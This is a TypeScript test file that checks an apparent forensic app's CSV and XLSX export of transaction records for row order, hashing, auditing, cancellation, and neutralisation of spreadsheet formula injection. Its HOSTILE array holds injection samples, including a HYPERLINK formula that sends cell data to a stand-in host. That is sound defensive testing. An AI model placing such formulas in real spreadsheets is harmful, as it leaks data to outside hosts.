import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { JobProgress, TxnFilter } from '../../../shared/domain';
import { EventBus } from '../../../electron/core/events';
import { JobRegistry } from '../../../electron/core/jobs';
import { runExportJob } from '../../../electron/core/transactions/export-job';
import { startsFormula } from '../../../electron/core/transactions/cell-safety';
import { countTxns } from '../../../electron/core/transactions/txn-query';
import { useDemoCase } from './demo-case';

const HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"点我")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR'];

function setup(demo: ReturnType<ReturnType<typeof useDemoCase>>) {
  const bus = new EventBus();
  const progress: JobProgress[] = [];
  bus.on((message) => {
    if (message.name === 'job.progressed') progress.push(message.payload as JobProgress);
  });
  const jobs = new JobRegistry(bus);
  const audit = (action: string, params: unknown) => demo.session.audit.append('测试员', action, params);
  return { deps: { session: demo.session, jobs, audit, claim: (start: (release: () => void) => string) => start(() => undefined) }, progress, jobs, bus };
}

function lastAudit(demo: ReturnType<ReturnType<typeof useDemoCase>>): { action: string; params: Record<string, unknown> } {
  const [entry] = demo.session.audit.list(0, 1).entries;
  return { action: entry?.action ?? '', params: JSON.parse(entry?.params ?? '{}') as Record<string, unknown> };
}

describe('exporting the filtered view', () => {
  const demo = useDemoCase(9);

  it('writes CSV (UTF-8 with BOM) with every row of the view, in order, no cell able to start a formula, audited', async () => {
    const current = demo();
    const { db } = current.session;
    // seized text that would run as a formula in Excel (this test changes summaries of a few rows of its own case)
    const targets = db.prepare("SELECT id FROM txn WHERE direction = 'out' ORDER BY id LIMIT ?").pluck().all(HOSTILE.length) as number[];
    targets.forEach((id, i) => db.prepare('UPDATE txn SET summary = ? WHERE id = ?').run(HOSTILE[i], id));

    const filter: TxnFilter = { direction: 'out' };
    const { deps, progress } = setup(current);
    const result = await runExportJob(deps, { filter, sort: [{ column: 'amount', dir: 'desc' }], format: 'csv' });

    expect(dirname(result.path)).toBe(join(current.session.caseDir, 'exports'));
    expect(result.path).toMatch(/交易明细_\d{8}-\d{6}\.csv$/);
    const bytes = readFileSync(result.path);
    expect(result.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const parsed = Papa.parse<string[]>(bytes.toString('utf8').slice(1), { skipEmptyLines: true });
    const [header, ...rows] = parsed.data;
    expect(header).toContain('本方账卡号');
    expect(header).toContain('交易金额（元）');
    expect(header).toContain('行哈希（SHA-256）');
    expect(rows.length).toBe(countTxns(db, filter));
    expect(result.rows).toBe(rows.length);

    // the view's order: ids as SQL sorts them
    const idColumn = header?.indexOf('记录ID') ?? -1;
    const expectedIds = db.prepare("SELECT id FROM txn WHERE direction = 'out' ORDER BY abs(amount_minor) DESC, id DESC").pluck().all() as number[];
    expect(rows.map((row) => Number(row[idColumn]))).toEqual(expectedIds);

    for (const row of rows) for (const cell of row) expect(startsFormula(cell), cell).toBe(false);
    const summaryColumn = header?.indexOf('摘要') ?? -1;
    const summaries = new Map(rows.map((row) => [Number(row[idColumn]), row[summaryColumn]]));
    targets.forEach((id, i) => expect(summaries.get(id)).toBe(`'${HOSTILE[i] ?? ''}`));

    // amounts in yuan with the sign of the direction; long numbers keep every digit
    const amountColumn = header?.indexOf('交易金额（元）') ?? -1;
    const first = db.prepare('SELECT amount_minor FROM txn WHERE id = ?').pluck().get(expectedIds[0]) as number;
    expect(rows[0]?.[amountColumn]).toBe((first / 100).toFixed(2));
    const accountColumn = header?.indexOf('本方账卡号') ?? -1;
    expect(rows.some((row) => /^\d{12,}\t$/.test(row[accountColumn] ?? ''))).toBe(true);

    expect(progress.at(-1)).toMatchObject({ kind: 'export', unit: 'rows', done: rows.length, total: rows.length });
    expect(progress.at(-1)).toMatchObject({ label: '导出交易明细（CSV）', title: { key: 'export', format: 'csv' } });
    const audit = lastAudit(current);
    expect(audit.action).toBe('txns.export');
    expect(audit.params).toMatchObject({ format: 'csv', rows: rows.length, sha256: result.sha256 });
    expect(String(audit.params.file)).toMatch(/^exports\/交易明细_\d{8}-\d{6}\.csv$/);
  });

  it('writes XLSX with the same rows, money as numbers, text as text', async () => {
    const current = demo();
    const { db } = current.session;
    const account = db.prepare('SELECT account_id FROM txn GROUP BY account_id ORDER BY count(*) DESC LIMIT 1').pluck().get() as number;
    const filter: TxnFilter = { accountIds: [account] };
    const { deps } = setup(current);
    const result = await runExportJob(deps, { filter, sort: [{ column: 'time', dir: 'asc' }], format: 'xlsx' });
    expect(result.path.endsWith('.xlsx')).toBe(true);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(result.path);
    const sheet = workbook.getWorksheet('交易明细');
    const header = (sheet?.getRow(1).values as unknown[]).slice(1);
    expect(sheet?.rowCount).toBe(countTxns(db, filter) + 1);
    expect(result.rows).toBe(countTxns(db, filter));
    const idColumn = header.indexOf('记录ID') + 1;
    const amountColumn = header.indexOf('交易金额（元）') + 1;
    const expected = db.prepare('SELECT id, amount_minor FROM txn WHERE account_id = ? ORDER BY ts_utc, id').all(account) as { id: number; amount_minor: number }[];
    const read: { id: number; amount: number }[] = [];
    sheet?.eachRow((row, n) => {
      if (n > 1) read.push({ id: Number(row.getCell(idColumn).value), amount: Number(row.getCell(amountColumn).value) });
    });
    expect(read).toEqual(expected.map((row) => ({ id: row.id, amount: row.amount_minor / 100 })));
    sheet?.eachRow((row) => {
      for (const value of (row.values as unknown[]).slice(1)) if (typeof value === 'string') expect(startsFormula(value), value).toBe(false);
    });
  });

  it('stops when cancelled, leaves no partial file and audits the cancel', async () => {
    const current = demo();
    const { deps, jobs, bus } = setup(current);
    const before = readdirSync(join(current.session.caseDir, 'exports'));
    // cancel as soon as the job reports its start, before its first batch is written
    let cancelled = false;
    bus.on((message) => {
      if (message.name === 'job.progressed' && !cancelled) cancelled = jobs.cancel((message.payload as JobProgress).jobId);
    });
    await expect(runExportJob(deps, { filter: {}, sort: [], format: 'xlsx' })).rejects.toMatchObject({ code: 'CANCELLED' });
    expect(cancelled).toBe(true);
    expect(readdirSync(join(current.session.caseDir, 'exports'))).toEqual(before);
    expect(lastAudit(current)).toMatchObject({ action: 'txns.export.cancelled', params: { format: 'xlsx', error: 'CANCELLED' } });
  });
});
